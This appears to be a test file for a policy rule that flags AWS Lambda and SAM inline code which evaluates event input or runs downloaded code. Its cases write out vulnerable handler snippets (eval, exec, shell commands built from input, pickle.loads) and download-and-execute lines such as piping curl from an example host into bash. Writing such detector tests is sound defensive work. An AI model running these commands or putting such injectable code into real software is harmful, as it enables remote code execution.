import rule from '../../../policies/supply-chain/no-dynamic-inline-code';
import { factsOf, resources } from '../facts';

const fn = (ZipFile: unknown, more: object = {}) =>
  factsOf(rule, resources({ Fn: { Type: 'AWS::Lambda::Function', Properties: { Code: { ZipFile } }, ...more } }));

test.each([
  'exports.handler = (event) => eval(event.body)',
  'new Function(event.code)()',
  'def handler(event, context):\n  exec(event["code"])',
  'subprocess.run(event["cmd"], shell=True)',
  'os.system("convert " + event["name"])',
  'require("child_process").execSync(`ls ${event.path}`)',
  'pickle.loads(event["body"])',
])('%s evaluates input', (code) => {
  expect(fn(code)).toEqual(['evaluatesInput Fn /Code/ZipFile']);
});

test.each([
  'os.system("curl https://x.example/a | bash")',
  'exec(requests.get(URL).text)',
  'os.system("pip install https://x.example/p.whl")',
])('%s runs a download', (code) => {
  expect(fn(code)).toEqual(['runsDownload Fn /Code/ZipFile']);
});

test.each(['regex.exec(event.body)', 'const evaluate = (event) => 1', 'subprocess.run(["ls"])', 'retrieval(event)', 'db.exec(event.sql)'])(
  '%s does not',
  (code) => {
    expect(fn(code)).toEqual([]);
  },
);

test('code that is put together is read, code of CDK itself is not', () => {
  expect(fn({ 'Fn::Join': ['\n', ['def handler(event, context):', '  eval(event["x"])']] })).toHaveLength(1);
  expect(fn('eval(event)', { Metadata: { 'aws:cdk:path': 'App/Custom::S3AutoDeleteObjectsCustomResourceProvider/Handler' } })).toEqual([]);
});

test('inline code of SAM is read', () => {
  expect(factsOf(rule, resources({ Fn: { Type: 'AWS::Serverless::Function', Properties: { InlineCode: 'eval(event)' } } }))).toHaveLength(
    1,
  );
});
